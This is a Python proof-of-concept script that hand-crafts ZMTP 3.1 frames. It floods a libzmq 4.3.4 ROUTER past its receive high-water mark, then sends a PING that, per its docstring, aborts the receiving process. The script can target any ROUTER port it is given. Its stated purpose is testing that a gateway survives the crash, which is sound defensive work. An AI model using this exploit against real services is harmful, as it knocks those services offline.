"""Provokes an abort of libzmq 4.3.4, so that a gateway can be shown to stand it.

A peer sends more messages than the receiver's RCVHWM, so that libzmq stops reading, then a PING of ZMTP 3.1,
and goes away. With a high-water mark in reach, libzmq then answers the PING on a session that has no engine
and the whole process aborts. A receiver with RCVHWM 0 never stops reading and survives.

    python3 libzmq_ping_abort.py                  tries a ROUTER of its own with several marks, and prints
    python3 libzmq_ping_abort.py PORT [COUNT]     does it to a ROUTER that listens on PORT (1100 messages)
"""
import os
import socket
import struct
import subprocess
import sys
import time

GREETING = b"\xff" + b"\0" * 8 + b"\x7f" + b"\x03\x01" + b"NULL".ljust(20, b"\0") + b"\0" + b"\0" * 31
MESSAGE = b"\0\1x"
PING = b"\x04\x07\x04PING\0\0"


def connect(door):
    """A DEALER spoken by hand, past its handshake."""
    link = socket.create_connection(door)
    link.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    ready = b"\x05READY"
    for name, value in ((b"Socket-Type", b"DEALER"), (b"Identity", b"")):
        ready += bytes([len(name)]) + name + struct.pack(">I", len(value)) + value
    link.sendall(GREETING + bytes([4, len(ready)]) + ready)
    time.sleep(0.3)
    return link


def provoke(door, count):
    """Sends `count` messages and a PING at once to a host and port, and goes away."""
    link = connect(door)
    link.sendall(MESSAGE * count + PING)
    time.sleep(0.5)
    link.close()
    time.sleep(0.5)


def receive(mark, count):
    """A ROUTER with that high-water mark, provoked, then read: it prints what it read if it lives."""
    import zmq
    router = zmq.Context().socket(zmq.ROUTER)
    router.rcvhwm = mark
    provoke(("127.0.0.1", router.bind_to_random_port("tcp://127.0.0.1")), count)
    read = 0
    while router.poll(400):
        router.recv_multipart()
        read += 1
    print("survived, read", read, flush=True)
    os._exit(0)


def main():
    words = sys.argv[1:]
    if words[:1] == ["receive"]:
        receive(int(words[1]), int(words[2]))
    if words:
        provoke(("127.0.0.1", int(words[0])), int(words[1]) if len(words) > 1 else 1100)
        return
    for mark, count in ((1000, 1100), (5, 20), (0, 1100), (2000, 1100)):
        run = subprocess.run([sys.executable, __file__, "receive", str(mark), str(count)],
                             capture_output=True, text=True, check=False)
        print(f"RCVHWM={mark} messages={count}: exit {run.returncode} {run.stdout.strip()}", flush=True)


if __name__ == "__main__":
    main()
